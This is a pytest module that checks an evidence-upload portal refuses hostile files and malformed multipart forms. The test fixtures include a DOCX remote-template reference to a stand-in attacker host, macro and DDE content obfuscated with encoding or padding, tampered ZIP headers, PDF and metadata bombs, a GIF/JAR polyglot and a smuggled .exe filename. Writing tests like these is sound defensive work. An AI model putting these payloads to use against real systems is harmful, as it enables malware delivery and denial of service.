"""E, further: files that hide what they are in how it is written, and forms with odd parts."""

import io
import zipfile

import pikepdf
import pytest
from sqlalchemy import func, select

from evidence.models import Evidence
from identity.models import Person
from tests.attacks.files_ground import Hand
from tests.evidence.makers import DOCX_MAIN, SMALL, XLSX_MAIN, archive
from tests.people import VANIA
from vendors.models import Contact

pytestmark = pytest.mark.slow

RELATIONS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


def with_relation(old=b"", new=b""):
    return archive(DOCX_MAIN, RELATIONS, content=TEMPLATE.replace(old, new))


def member(content, at, value):
    """Write other bytes into the last entry of a table of contents."""
    changed = bytearray(content)
    start = changed.rfind(b"PK\x01\x02") + at
    changed[start : start + len(value)] = value
    return bytes(changed)


def odd_archive(*names):
    with zipfile.ZipFile(file := io.BytesIO(), "w", zipfile.ZIP_DEFLATED) as made:
        for name in ("[Content_Types].xml", *names):
            made.writestr(name, "<Types/>" if name.startswith("[") else "<x/>")
    return file.getvalue()


REFUSED = {
    "kind in numbers.docx": with_relation(b"attachedT", b"attached&#84;"),
    "address in numbers.docx": with_relation(b"https:", b"&#104;ttps&#x3a;"),
    "behind a sign of closing.docx": with_relation(b"r1", b"a>b"),
    "a picture elsewhere.docx": with_relation(b"attachedTemplate", b"image"),
    "a page taken in.docx": with_relation(b"attachedTemplate", b"aFChunk"),
    "macros in numbers.docx": archive(
        DOCX_MAIN, types=b"<Types><Override ContentType='a/vba&#80;roject'/></Types>"
    ),
    "macros far behind.docx": archive(
        DOCX_MAIN,
        types=b"<Types>" + b" " * 1_100_000 + b"<Override ContentType='a/vbaProject'/></Types>",
    ),
    "a program for cells.xlsx": archive(
        XLSX_MAIN, "xl/externalLinks/e.xml", content=b"<e><ddeLink ddeService='x'/></e>"
    ),
    "another size.docx": member(archive(DOCX_MAIN), 24, b"\xff\xff\xff\xff"),
    "a smaller size.docx": member(archive(DOCX_MAIN), 24, b"\1\0\0\0"),
    "another method.docx": member(archive(DOCX_MAIN), 10, b"\x63\0"),
    "twice in capitals.docx": odd_archive(DOCX_MAIN, DOCX_MAIN.upper()),
    "binary.xlsx": odd_archive("xl/workbook.bin"),
    "two tables.docx": archive(DOCX_MAIN) + odd_archive("x"),
    "endless.pdf": b"%PDF-1.4\n1 0 obj" + b"[" * 1_000_000 + b"endobj trailer<</Root 1 0 R>>",
    "nothing wide.png": SMALL["png"][:16] + b"\x7f\xff\xff\xff" * 2 + SMALL["png"][24:],
    "gifar.jpg": b"GIF89a" + odd_archive("a.class"),
    "half a letter.txt": b"\xff\xfe" + b"\x00\xd8" * 10,
    "page behind remarks.txt": b"<!---->" * 140 + b"<html>",
}


@pytest.fixture(scope="module")
def hand(world):
    person, mine = world.vendor(VANIA), select(Contact.vendor_id).join(Person)
    with world.database.reading() as session:
        vendor_id = session.scalars(mine.where(Person.email == VANIA.email)).first()
    return Hand(
        world.url, VANIA.name, cookie="duly_portal", session=person.session, vendor_id=vendor_id
    )


def count(world):
    with world.database.reading() as session:
        return session.scalars(select(func.count(Evidence.id))).one()


@pytest.mark.parametrize("name", REFUSED)
def test_E09_what_a_file_does_is_seen_however_it_is_written(world, hand, name):
    before = count(world)
    got = hand.bring(REFUSED[name], name)
    assert got.status == 422, got.text
    assert "The selected" in got.text
    assert count(world) == before


def test_E22_a_row_of_remarks_holds_up_nobody(hand):
    """Each remark could end at any of the next ones: a few hundred bytes took longer than a life."""
    assert hand.bring(b"<!---->" * 140 + b"plain words", "remarks.txt").status == 303
    assert hand.ask("GET", "/p/evidence").status == 200


def test_E22_a_bomb_in_a_description_of_a_pdf_is_not_unpacked_here(world, hand):
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Metadata = pikepdf.Stream(document, bytes(120_000_000))
    document.save(file := io.BytesIO(), fix_metadata_version=False)
    assert hand.bring(file.getvalue(), "described.pdf").status in {303, 422}
    assert hand.ask("GET", "/p/evidence").status == 200


def part(name, content, more=""):
    head = f'Content-Disposition: form-data; name="{name}"{more}\r\n\r\n'
    return head.encode("utf-8", "surrogateescape") + content


def file_part(name, content, field="file", more=""):
    return part(field, content, f'; filename="{name}"{more}')


FORMS = {
    "a program first": ([file_part("b.exe", b"MZ x"), file_part("a.txt", b"words")], 422),
    "no name": ([part("file", b"words")], 422),
    "an empty name": ([file_part("", b"words")], 422),
    "another field": ([file_part("a.txt", b"words", field="other")], 422),
    "a name of its own": ([file_part("a.txt", b"words", more="; filename*=UTF-8''b.exe")], 422),
    "no field": ([b"Content-Disposition: form-data\r\n\r\nx"], 422),
    "no head": ([b"X: y\r\n\r\nx"], 422),
    "three thousand parts": ([part(f"p{n}", b"x") for n in range(3000)], 413),
}


@pytest.mark.parametrize("how", FORMS)
def test_E05_a_form_with_odd_parts_brings_nothing(world, hand, how):
    parts, status = FORMS[how]
    before = count(world)
    sent = [part("vendor_id", str(hand.vendor_id).encode()), part("kind", b"other"), *parts]
    body = b"".join(b"--b\r\n" + each + b"\r\n" for each in sent) + b"--b--\r\n"
    got = hand.ask("POST", "/p/evidence", body, {"Content-Type": "multipart/form-data; boundary=b"})
    assert got.status == status, got.text
    assert count(world) == before


def test_E16_a_file_for_another_vendor_is_for_nobody(world, hand):
    before = count(world)
    for first, second in ((world.secret, None), (world.open, hand), (world.secret, hand)):
        ids = [first["vendor_id"], *([second.vendor_id] if second else [])]
        sent = [*(part("vendor_id", str(each).encode()) for each in ids), part("kind", b"other")]
        sent.append(file_part("a.txt", b"words"))
        body = b"".join(b"--b\r\n" + each + b"\r\n" for each in sent) + b"--b--\r\n"
        kind = {"Content-Type": "multipart/form-data; boundary=b"}
        assert hand.ask("POST", "/p/evidence", body, kind).status == 404
    assert count(world) == before
